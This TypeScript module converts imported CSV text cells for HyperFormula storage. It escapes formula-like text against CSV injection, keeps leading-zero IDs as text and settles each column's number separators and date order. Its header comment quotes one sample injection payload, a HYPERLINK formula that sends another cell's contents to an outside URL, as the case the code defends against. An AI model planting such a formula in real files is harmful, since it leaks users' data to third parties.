/**
 * How an imported cell is stored. HyperFormula reads a string as if typed (`=` starts a formula, `00123` is the
 * number 123); a leading apostrophe makes it text. Imported files hold data, not typing, so:
 * - text starting with `=`, `+`, `-`, `@`, a tab or a carriage return is stored as text (CSV injection: a cell
 *   `=HYPERLINK("http://…"&B2, "…")` stays those characters, never a live formula), unless it is a signed number;
 * - text that starts with an apostrophe keeps it;
 * - in an ID-like column (a value with a leading zero, such as `00001`), numbers stay text, zeros kept;
 * - numbers and dates are read by the core's own readers, each column as a whole, as a formula reads an argument:
 *   `350.000` is 350000 in a column that also holds `1.250.000` (and stays text where nothing settles it), `12/1/2010`
 *   is 1 December in a column that also holds `12/13/2010`, a date with a time keeps its time;
 * - other text is read as typed.
 */
import { dateTextToSerial, serialToIso, settleDateOrder, type DateOrder, UNSETTLED } from '../../core/dates.js';
import { NO_SEPARATORS, parseNumberText, settleSeparators, type Separators } from '../../core/number-text.js';
import type { CellInput } from '../engine/sheet-model.js';

/** The mark HyperFormula reads as "the rest is text". */
export const TEXT_MARK = "'";

/** Characters a spreadsheet (or a CSV opened in one) may take as the start of a formula. */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A plain signed number (`-12.5`, `+3`, `-4%`): a number in the file, kept a number. */
const SIGNED_NUMBER = /^[+-](?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?$/;
/** A sign and then digits: what may be a signed amount written with separators or a currency. */
const SIGN = /^[+-]\d/;
/** Digits with a leading zero (`00001`, `0912345678`), or more digits than a number keeps exactly. */
const ID_LIKE = /^(?:0\d+|\d{16,})$/;
const DIGITS = /^\d+$/;
const TIME = /\s(\d{1,2}):(\d{2})(?::(\d{2}))?(?:\.\d+)?\s*$/;

/** What a column's cells settle together: the day/month order of its dates and its number separators. */
export interface ColumnReading {
  readonly order: DateOrder;
  readonly separators: Separators;
}

export const AS_TYPED: ColumnReading = { order: UNSETTLED, separators: NO_SEPARATORS };

export function columnReading(values: readonly (string | null | undefined)[]): ColumnReading {
  const texts = values.filter((v): v is string => typeof v === 'string' && v !== '');
  return { order: settleDateOrder(texts), separators: settleSeparators(texts) };
}

/** A date serial (and the text's time of day, if it has one) as text HyperFormula reads as that date. */
function isoText(serial: number, text: string): string {
  const time = TIME.exec(text);
  if (!time) return serialToIso(serial);
  const two = (n: string | undefined): string => (n ?? '0').padStart(2, '0');
  return `${serialToIso(serial)} ${two(time[1])}:${two(time[2])}:${two(time[3])}`;
}

/** Text stored as text, whatever it looks like. */
export function asText(text: string): string {
  return TEXT_MARK + text;
}

/** True when a column's values make it an ID column (its digits are kept as typed). */
export function isIdColumn(values: readonly (string | null | undefined)[]): boolean {
  return values.some((value) => typeof value === 'string' && ID_LIKE.test(value.trim()));
}

/** One imported text cell as HyperFormula should store it. */
export function importedCell(text: string, idColumn = false, column: ColumnReading = AS_TYPED): CellInput {
  if (text === '') return null;
  const trimmed = text.trim();
  if (idColumn && DIGITS.test(trimmed)) return asText(text);
  if (text.startsWith(TEXT_MARK)) return asText(text);
  if (FORMULA_START.test(text)) {
    if (SIGNED_NUMBER.test(text)) return text;
    // A signed amount as its column writes it (`-5,5%`, `-1.250.000 ₫`) is a number; anything else stays text.
    const signed = SIGN.test(trimmed) ? parseNumberText(trimmed, column.separators) : undefined;
    return typeof signed === 'number' ? signed : asText(text);
  }
  if (!DIGITS.test(trimmed)) {
    const date = dateTextToSerial(trimmed, column.order);
    // A date whose day and month nothing in its column settles stays text: the formulas say why, nobody guesses.
    if (date !== undefined) return typeof date === 'number' ? isoText(date, trimmed) : asText(text);
  }
  const number = parseNumberText(trimmed, column.separators);
  if (typeof number === 'number') return number;
  return number.code === 'ambiguousNumber' ? asText(text) : text;
}
